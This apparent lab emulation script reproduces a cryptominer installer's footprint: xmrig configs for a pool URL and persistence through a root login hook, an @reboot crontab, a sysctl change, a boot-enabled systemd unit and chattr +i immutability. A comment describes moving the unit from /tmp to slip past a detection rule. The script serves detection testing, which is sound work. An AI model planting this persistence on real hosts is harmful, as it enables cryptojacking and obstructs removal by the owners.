# What the public C3Pool and MoneroOcean installers leave on a host when run as root, imitated for the lab.
# Runs inside the host: sh -c "$(cat dropper.sh)" dropper UNIT DIR UNIT_TEXT POOL_URL STAGING IMMUTABLE <stand-in
set -eu
unit=$1 dir=$2 unit_text=$3 pool_url=$4 staging=$5 immutable=$6

mkdir -p "$dir"
cat >"$dir/xmrig"
chmod 755 "$dir/xmrig"

# xmrig's config shape; the stand-in reads only the pool "url".
write_config() {
  cat >"$1" <<CONFIG
{
    "api": { "id": null, "worker-id": null },
    "autosave": true,
    "background": $2,
    "colors": true,
    "cpu": { "enabled": true, "huge-pages": true, "priority": null, "max-threads-hint": 100 },
    "donate-level": 1,
    "log-file": null,
    "pools": [
        {
            "algo": null,
            "coin": null,
            "url": "$pool_url",
            "user": "soar-lab-wallet",
            "pass": "$(hostname)",
            "keepalive": true,
            "nicehash": false,
            "tls": false
        }
    ],
    "print-time": 60,
    "retries": 5,
    "retry-pause": 5,
    "syslog": false
}
CONFIG
}
write_config "$dir/config.json" false
write_config "$dir/config_background.json" true

cat >"$dir/miner.sh" <<MINER
#!/bin/bash
# Start the miner unless one is already running.
if pidof xmrig >/dev/null; then
  echo "a miner is already running in the background"
else
  nice $dir/xmrig \$*
fi
MINER
chmod 755 "$dir/miner.sh"

# The installers' other persistence: a login hook, a crontab, huge pages for the hash rate.
echo "$dir/miner.sh --config=$dir/config_background.json >/dev/null 2>&1" >>/root/.profile
mkdir -p /var/spool/cron/crontabs
echo "@reboot $dir/miner.sh --config=$dir/config_background.json >/dev/null 2>&1" >>/var/spool/cron/crontabs/root
chmod 600 /var/spool/cron/crontabs/root
echo "vm.nr_hugepages=1280" >>/etc/sysctl.conf

# The unit is written to /tmp first, then moved into place (a rename the detection rule does not see).
printf '%s' "$unit_text" >"/tmp/$unit"
if [ "$staging" = 1 ]; then
  cp "/tmp/$unit" "/etc/systemd/system/$unit"
else
  mv "/tmp/$unit" "/etc/systemd/system/$unit"
fi
systemctl daemon-reload
systemctl enable --now --quiet "$unit"

if [ "$immutable" = 1 ]; then
  chattr +i "/etc/systemd/system/$unit" "$dir/xmrig"
fi
